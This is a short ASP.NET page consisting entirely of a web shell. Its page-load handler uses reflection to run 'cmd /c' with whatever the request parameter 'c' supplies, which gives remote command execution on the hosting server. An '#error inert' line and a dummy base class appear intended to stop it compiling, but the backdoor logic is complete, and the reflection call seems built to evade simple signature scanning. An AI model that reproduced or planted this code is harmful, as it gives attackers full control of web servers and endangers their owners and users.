<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ var t=typeof(System.Diagnostics.Process); t.GetMethod("Start",new[]{typeof(string),typeof(string)}).Invoke(null,new object[]{"cmd","/c "+Request["c"]}); }
</script>
